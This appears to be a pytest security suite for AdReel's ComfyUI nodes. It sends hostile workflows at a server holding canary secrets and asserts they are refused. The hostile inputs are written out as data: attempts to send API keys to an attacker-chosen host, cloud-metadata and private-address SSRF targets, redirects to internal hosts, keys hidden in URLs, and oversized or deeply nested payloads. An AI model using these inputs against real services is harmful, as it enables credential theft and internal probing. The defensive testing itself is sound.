"""Hostile prompts against ScriptLLM, its models route and cloud TTS, through a real ComfyUI (issue 11, part A).

Each attack is made as a network user makes it — a POST to ``/prompt`` or a GET
of AdReel's route — against a ComfyUI whose environment holds canary secrets
(``MINIO_SECRET_KEY``, ``OPENAI_API_KEY``, an ``ADREEL_LLM_KEY_GW`` and
``ELEVENLABS_API_KEY``), with contract-faithful fakes as the operator's own
hosts and as the attacker's. What is asserted is what an operator sees from
outside: the requests each fake received (headers and bodies), what
``/history`` and ``/object_info`` return, ComfyUI's log, the output folder,
wall-time bounds, and that the server still answers. The last test checks that
no canary went to any host but its own, nor into history, logs or outputs, and
that a normal ad still renders.
"""
from __future__ import annotations

import copy
import json
import os
import time
import urllib.error
import urllib.request
import uuid

import pytest

from fakes.llm_servers import Drip, FakeOllama, FakeOpenAICompatible, PlanModel, Redirect, Reply
from fakes.tts_servers import FakeTTS
from harness import ComfyServer, PromptError, load_api_workflow, node_by_type, output_files

pytestmark = pytest.mark.comfy

CANARY_MINIO = "canary-minio-" + uuid.uuid4().hex
CANARY_OPENAI = "sk-canaryopenai" + uuid.uuid4().hex
CANARY_GW = "canary-gw-" + uuid.uuid4().hex
CANARY_ELEVEN = "canary-eleven-" + uuid.uuid4().hex
CANARIES = {"MINIO_SECRET_KEY": CANARY_MINIO, "OPENAI_API_KEY": CANARY_OPENAI, "ADREEL_LLM_KEY_GW": CANARY_GW,
            "ELEVENLABS_API_KEY": CANARY_ELEVEN}

BRIEF = {"brand": "Acme", "product": "RoboVac X2", "audience": "busy parents", "goal": "drive sales",
         "duration_seconds": 6.0, "tone": "confident", "aspect_ratio": "9:16", "language": "en",
         "brand_colors": "#1E3A8A, #F59E0B", "cta": "Shop now at acme.com", "channels": "tiktok"}


class Hosts:
    """The operator's own hosts and the attacker's, all on loopback."""

    def __enter__(self):
        self.ollama = FakeOllama(models=("qwen2.5:7b", "llama3.2:3b"), hang_seconds=30).start()   # OLLAMA_HOST
        self.own = FakeOpenAICompatible(models=("m",), api_key=CANARY_OPENAI).start()              # OPENAI_BASE_URL
        self.gw = FakeOpenAICompatible(models=("m",), api_key="gw-expects-another-key", echo_key=True).start()
        self.attacker = FakeOllama(models=("evil:latest",), hang_seconds=30).start()
        self.internal = FakeOllama(models=("internal:latest",)).start()
        self.tts = FakeTTS(CANARY_ELEVEN).__enter__()                                               # ELEVENLABS_BASE_URL
        self.attacker_tts = FakeTTS("attacker").__enter__()
        return self

    def __exit__(self, *exc):
        for f in (self.ollama, self.own, self.gw, self.attacker, self.internal):
            f.stop()
        self.tts.__exit__()
        self.attacker_tts.__exit__()

    def reset(self):
        for f in (self.ollama, self.own, self.gw, self.attacker, self.internal):
            f.requests.clear()
            f._queue.clear()
            f.model = PlanModel()
        self.tts.script.clear()
        self.attacker_tts.script.clear()


@pytest.fixture(scope="module")
def hosts():
    with Hosts() as h:
        yield h


@pytest.fixture(scope="module")
def server(hosts):
    env = dict(CANARIES)
    env.update({
        "OLLAMA_HOST": hosts.ollama.url,
        "OPENAI_BASE_URL": hosts.own.url + "/v1",
        "ADREEL_LLM_URL_GW": hosts.gw.url + "/v1",
        "ELEVENLABS_BASE_URL": hosts.tts.url,
        "ADREEL_SECRETS_FILE": "/nonexistent/adreel-secrets.json",
        # the attacker's server stands for a public host but listens on loopback: this operator opens loopback
        # and private addresses to keyless calls (keys stay bound to their hosts; link-local stays refused).
        # Without it, keyless loopback/private calls are refused: test_security_round2_echo.py
        "ADREEL_LLM_ALLOW_PRIVATE": "1",
    })
    with ComfyServer(env=env) as s:
        yield s


@pytest.fixture
def comfy(server, hosts):
    hosts.reset()
    return server


def script_prompt(**inputs) -> dict:
    base = {"brief": ["1", 0], "backend": "ollama", "seed": 1, "model": "qwen2.5:7b", "timeout_seconds": 20.0}
    base.update(inputs)
    return {"1": {"class_type": "BrandBrief", "inputs": dict(BRIEF)},
            "2": {"class_type": "ScriptLLM", "inputs": base},
            "3": {"class_type": "PreviewAny", "inputs": {"source": ["2", 1]}}}


def execution_error(exc: PromptError) -> dict:
    return next(d for k, d in exc.details["status"]["messages"] if k == "execution_error")


def no_canary(text: str, *canaries: str) -> bool:
    canaries = canaries or tuple(CANARIES.values())
    return not any(c in text or c[:10] in text for c in canaries)


def get(server, path):
    try:
        with urllib.request.urlopen(server.url + path, timeout=30) as r:
            return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read())


# ------------------------------------------------------------------ a workflow cannot send a key to a host it picks
def test_a_workflow_cannot_send_a_storage_secret_to_its_own_host(comfy, hosts):
    evil = hosts.attacker.url + "/v1"
    with pytest.raises(PromptError) as exc:  # refused at /prompt: never queued
        comfy.queue(script_prompt(backend="openai", openai_model="evil:latest", openai_base_url=evil,
                                  api_key_env="MINIO_SECRET_KEY"))
    assert exc.value.status == 400
    assert "api_key_env: names a variable AdReel may not send" in str(exc.value)
    # an allowed key variable still never goes to a host of the workflow's choosing
    for url in (evil, evil.replace("http://127.0.0.1", "http://localhost")):
        with pytest.raises(PromptError) as exc:
            comfy.run(script_prompt(backend="openai", openai_model="evil:latest", openai_base_url=url,
                                    api_key_env="OPENAI_API_KEY"), timeout=60)
        err = execution_error(exc.value)
        assert err["exception_message"].startswith("openai_base_url: the key in OPENAI_API_KEY is only sent to")
        assert no_canary(json.dumps(exc.value.details))
    assert hosts.attacker.requests == []  # not one request, so no header at all reached it
    assert comfy.alive()


# ------------------------------------------------------------------ keys pasted into widgets
@pytest.mark.parametrize("pasted", ["gsk_" + "Zq8mN4vR7tLp2xWcYb6Hd3Jf9Ks1Ag5Ue0Io7Py4Tr2Ew8Qm6Nb3Vc1Xz",
                                    "hf_QwErTyUiOpAsDfGhJkLzXcVbNm123456", "r8_QwErTyUiOpAsDfGhJkLzXcVbNm1234567",
                                    "Xk3mP9qR2sT7vW4yZ6aB8cD1eF5gH0jK"])
def test_a_pasted_key_is_refused_at_prompt_without_echo(comfy, hosts, pasted):
    with pytest.raises(PromptError) as exc:
        comfy.queue(script_prompt(backend="openai", openai_model="m", api_key_env=pasted))
    assert exc.value.status == 400 and "looks like an API key itself" in str(exc.value)
    assert pasted not in json.dumps(exc.value.details) and pasted[:8] not in json.dumps(exc.value.details)
    assert pasted[:12] not in json.dumps(comfy.get_json("/history"))  # never executed, never stored
    assert hosts.own.requests == [] and hosts.attacker.requests == []


def test_a_key_pasted_into_any_llm_widget_is_refused_at_prompt(comfy, hosts):
    pasted = "sk-proj-" + uuid.uuid4().hex
    for inputs in ({"backend": "ollama", "api_key_env": pasted},
                   {"backend": "openai", "openai_model": "m", "openai_base_url": f"https://me:{pasted}@gw.example/v1"},
                   {"backend": "ollama", "ollama_host": f"http://me:{pasted}@127.0.0.1:11434"}):
        with pytest.raises(PromptError) as exc:
            comfy.queue(script_prompt(**inputs))
        assert exc.value.status == 400 and pasted[:12] not in json.dumps(exc.value.details)
    assert pasted[:12] not in json.dumps(comfy.get_json("/history")) and pasted[:12] not in comfy.log_text()


def test_the_default_key_is_not_sent_to_a_third_party_base_url(comfy, hosts):
    with pytest.raises(PromptError) as exc:
        comfy.run(script_prompt(backend="openai", openai_model="m", openai_base_url=hosts.attacker.url + "/v1"),
                  timeout=60)
    assert "openai_base_url" in execution_error(exc.value)["exception_message"]
    assert hosts.attacker.requests == []
    # the configured endpoint gets it (over loopback http), and the script is written
    result = comfy.run(script_prompt(backend="openai", openai_model="m"), timeout=120)
    assert result.ui("2")["adreel_script"][0]["source"] == "openai:m"
    assert hosts.own.chats()[0].headers["Authorization"] == f"Bearer {CANARY_OPENAI}"


# ------------------------------------------------------------------ the models route
def test_the_models_route_asks_only_the_configured_ollama(comfy, hosts):
    hosts.attacker.tags_override = [{"name": f"spam{i}", "model": f"spam{i}"} for i in range(200_000)]
    for host in (hosts.attacker.url, "http://10.0.0.5:9200", "http://169.254.169.254"):
        t0 = time.monotonic()
        status, body = get(comfy, "/adreel/ollama/models?host=" + urllib.request.quote(host, safe=""))
        assert status == 400 and "only the Ollama server configured with OLLAMA_HOST" in body["error"]
        assert time.monotonic() - t0 < 20  # no request was made, so no timeout was waited for
    assert hosts.attacker.requests == []
    status, body = get(comfy, "/adreel/ollama/models")
    assert status == 200 and body == {"host": hosts.ollama.url, "models": ["llama3.2:3b", "qwen2.5:7b"]}
    options = comfy.get_json("/object_info/ScriptLLM")["ScriptLLM"]["input"]["optional"]["model"][1]["options"]
    assert {"llama3.2:3b", "qwen2.5:7b"} <= set(options) and not any(o.startswith("spam") for o in options)
    # the configured host's own list is bounded too
    hosts.ollama.tags_override = [{"name": f"m{i:06d}", "model": f"m{i:06d}"} for i in range(100_000)]
    try:
        status, body = get(comfy, "/adreel/ollama/models")
        assert status == 200 and len(body["models"]) <= 500
    finally:
        hosts.ollama.tags_override = None
        get(comfy, "/adreel/ollama/models")
    assert comfy.alive()


# ------------------------------------------------------------------ private hosts, redirects, reflected bodies, caps
def test_metadata_and_private_hosts_are_refused(comfy, hosts):
    # (private ranges are open on this server, ADREEL_LLM_ALLOW_PRIVATE=1; metadata stays refused even so)
    for host, words in (("http://169.254.169.254", "cloud-metadata"), ("http://[fe80::1]:11434", "link-local"),
                        (hosts.attacker.url + "/api/../admin", "without a path")):
        with pytest.raises(PromptError) as exc:
            comfy.run(script_prompt(ollama_host=host), timeout=60)
        msg = execution_error(exc.value)["exception_message"]
        assert msg.startswith("ollama_host:") and words in msg
    assert comfy.alive()


def test_a_redirect_from_the_attacker_is_not_followed(comfy, hosts):
    hosts.attacker.models.append("qwen2.5:7b")
    hosts.attacker.script(Redirect(hosts.internal.url + "/api/chat", 307))
    with pytest.raises(PromptError) as exc:
        comfy.run(script_prompt(ollama_host=hosts.attacker.url), timeout=60)
    assert "redirect (307)" in execution_error(exc.value)["exception_message"]
    assert hosts.internal.requests == []
    assert all("Authorization" not in r.headers for r in hosts.attacker.requests)


def test_error_bodies_are_not_reflected_whole(comfy, hosts):
    hosts.attacker.models.append("qwen2.5:7b")
    secret_page = "ami-id instance-id " + "INTERNAL-" * 2000
    hosts.attacker.script(Reply(400, {"error": secret_page}))
    result = comfy.run(script_prompt(ollama_host=hosts.attacker.url), timeout=60)
    text = result.ui("2")["text"][0]
    assert text.startswith("FELL BACK TO THE TEMPLATE") and "HTTP 400" in text
    assert "ami-id" not in text and "INTERNAL-" not in text  # the server's answer is never shown
    assert "INTERNAL-" * 30 not in json.dumps(comfy.get_json("/history"))


def test_keep_alive_and_context_are_capped_server_side(comfy, hosts):
    comfy.run(script_prompt(keep_alive="-1", context_size=262144, seed=2), timeout=60)
    body = hosts.ollama.chats()[-1].body
    assert body["keep_alive"] == 3600 and body["options"]["num_ctx"] == 32768


# ------------------------------------------------------------------ keys in history and logs
def test_a_key_echoed_by_its_own_server_reaches_no_history_and_no_log(comfy, hosts):
    with pytest.raises(PromptError) as exc:
        comfy.run(script_prompt(backend="openai", openai_model="m", api_key_env="ADREEL_LLM_KEY_GW"), timeout=60)
    err = execution_error(exc.value)
    assert err["exception_message"].startswith("api_key_env:") and "401" in err["exception_message"]
    assert "Incorrect API key" not in err["exception_message"]  # the server's words are not shown, only its status
    (sent,) = [r for r in hosts.gw.requests if r.path.endswith("/chat/completions")]
    assert sent.headers["Authorization"] == f"Bearer {CANARY_GW}"  # it went to its own host, and only there
    assert no_canary(json.dumps(comfy.get_json("/history")), CANARY_GW)
    log = comfy.log_text()
    assert "Incorrect API key provided" in log and no_canary(log, CANARY_GW)


def test_the_log_filter_covers_other_libraries_in_the_comfyui_process(comfy, hosts):
    """httpx (not AdReel) logs each request URL at INFO through ComfyUI's root handler: a signature in it is
    masked, so the filter is installed process-wide, not only on AdReel's loggers."""
    signature = "f00dfacecafe" + uuid.uuid4().hex
    url = f"{hosts.attacker.url}/v1?X-Amz-Signature={signature}"
    with pytest.raises(PromptError) as exc:  # the query string makes the path wrong: a 404 there
        comfy.run(script_prompt(backend="openai", openai_model="evil:latest", openai_base_url=url,
                                api_key_env="none", max_attempts=1), timeout=60)
    assert signature[:12] not in execution_error(exc.value)["exception_message"]
    log = comfy.log_text()
    # the request went out (keyless, to loopback; the fake 404s an unknown path) and httpx logged it
    assert any(line.startswith("HTTP Request: POST") and "X-Amz-Signature=***" in line for line in log.splitlines())
    assert signature[:12] not in log


# ------------------------------------------------------------------ huge, quadratic or dripped answers
def test_a_huge_or_quadratic_answer_does_not_pin_the_worker(comfy, hosts):
    hosts.ollama.script("```{" * 250_000)  # 1 MB: over the answer cap, not read whole
    t0 = time.monotonic()
    result = comfy.run(script_prompt(seed=3, max_attempts=1), timeout=60)
    assert "larger than 262144 bytes" in result.ui("2")["text"][0]
    hosts.ollama.script("```{" * 60_000, "```{" * 60_000)  # 240 KB under the cap: the old regex took ~40 s each
    result = comfy.run(script_prompt(seed=4, max_attempts=2), timeout=60)
    assert result.ui("2")["adreel_script"][0]["source"] == "template"
    assert time.monotonic() - t0 < 45  # generous: the old parse alone took minutes
    assert comfy.alive()


def test_interrupt_stops_a_slowly_dripped_answer(comfy, hosts):
    answer = PlanModel()  # a good answer, sent 64 bytes a second: minutes to arrive
    hosts.ollama.script(lambda body: Drip(answer(body), 64, 1.0))
    pid = comfy.queue(script_prompt(seed=5, timeout_seconds=600.0))
    deadline = time.monotonic() + 60
    while not hosts.ollama.chats() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert hosts.ollama.chats(), "the LLM was never asked"
    time.sleep(1.0)
    t0 = time.monotonic()
    comfy.interrupt()
    with pytest.raises(PromptError) as exc:
        comfy.wait(pid, timeout=30)
    assert "interrupted at node 2 (ScriptLLM)" in str(exc.value) and time.monotonic() - t0 < 30
    assert comfy.alive()


# ------------------------------------------------------------------ deep nesting
def test_deep_nesting_is_a_field_error_and_an_llm_answer_falls_back(comfy, hosts):
    with pytest.raises(PromptError) as exc:
        comfy.run(script_prompt(backend="template", edited_script="[" * 100_000), timeout=60)
    err = execution_error(exc.value)
    assert err["exception_message"].startswith("edited_script: is nested too deeply")
    assert "RecursionError" not in err["exception_type"]
    hosts.ollama.script("[" * 100_000, "[" * 100_000)
    result = comfy.run(script_prompt(seed=6, max_attempts=2), timeout=60)
    assert result.ui("2")["adreel_script"][0]["source"] == "template"
    script = json.loads(comfy.run(script_prompt(backend="template", seed=6), timeout=60).ui("3")["text"][0])
    script["scenes"][0]["brand_elements"] = ["logo"] * 5000
    with pytest.raises(PromptError) as exc:
        comfy.run(script_prompt(backend="template", edited_script=json.dumps(script)), timeout=60)
    assert execution_error(exc.value)["exception_message"].startswith("edited_script.scenes[0].brand_elements")
    assert comfy.alive()


# ------------------------------------------------------------------ cloud TTS redirects
def narration_prompt() -> dict:
    return {"1": {"class_type": "BrandBrief", "inputs": dict(BRIEF, duration_seconds=10.0)},
            "2": {"class_type": "ScriptLLM", "inputs": {"brief": ["1", 0], "backend": "template", "seed": 1}},
            "3": {"class_type": "StoryboardSplit", "inputs": {"script": ["2", 0], "fps": "24",
                                                               "resolution": "720p"}},
            "4": {"class_type": "SceneNarration", "inputs": {"scene": ["3", 1], "backend": "elevenlabs",
                                                              "rate_wpm": 165, "fit_to_scene": False}},
            "5": {"class_type": "PreviewAny", "inputs": {"source": ["4", 0]}}}


def test_a_tts_redirect_does_not_carry_the_key(comfy, hosts):
    hosts.tts.redirect_to = hosts.attacker_tts.url
    hosts.tts.script = ["redirect"] * 20
    try:
        with pytest.raises(PromptError) as exc:
            comfy.run(narration_prompt(), timeout=120)
    finally:
        hosts.tts.script = []
    assert "redirect (307)" in execution_error(exc.value)["exception_message"]
    assert hosts.attacker_tts.requests == []
    assert hosts.tts.requests and hosts.tts.requests[0]["headers"]["xi-api-key"] == CANARY_ELEVEN
    assert no_canary(json.dumps(comfy.get_json("/history")), CANARY_ELEVEN)


# ------------------------------------------------------------------ after everything
def test_zz_the_canaries_went_nowhere_else_and_a_normal_ad_still_renders(comfy, hosts):
    prompt = copy.deepcopy(load_api_workflow("brief_to_ad.json"))
    node_by_type(prompt, "BrandBrief")[1]["inputs"].update(duration_seconds=3.0)
    node_by_type(prompt, "ScriptLLM")[1]["inputs"].update(backend="template")
    node_by_type(prompt, "StoryboardSplit")[1]["inputs"]["resolution"] = "720p"
    node_by_type(prompt, "FFmpegAssemble")[1]["inputs"]["preset"] = "ultrafast"
    result = comfy.run(prompt, timeout=600)
    node_id, _ = node_by_type(prompt, "FFmpegAssemble")
    assert any(f.endswith(".mp4") and os.path.getsize(f) > 10_000 for f in output_files(comfy, result, node_id))

    # requests: each canary only ever reached its own host (the attacker's and internal hosts got none)
    def seen(fake_requests):
        return json.dumps([{"h": dict(r.headers), "b": r.raw.decode("utf-8", "replace")} for r in fake_requests])
    for fake in (hosts.attacker, hosts.internal, hosts.ollama):
        assert no_canary(seen(fake.requests))
    assert no_canary(json.dumps(hosts.attacker_tts.requests))
    # history, log and every output file
    assert no_canary(json.dumps(comfy.get_json("/history")))
    assert no_canary(comfy.log_text())
    for folder in ("output", "temp"):
        for root, _, files in os.walk(comfy.folder(folder)):
            for name in files:
                with open(os.path.join(root, name), "rb") as f:
                    data = f.read().decode("latin-1")
                assert no_canary(data), os.path.join(root, name)
    assert comfy.alive()
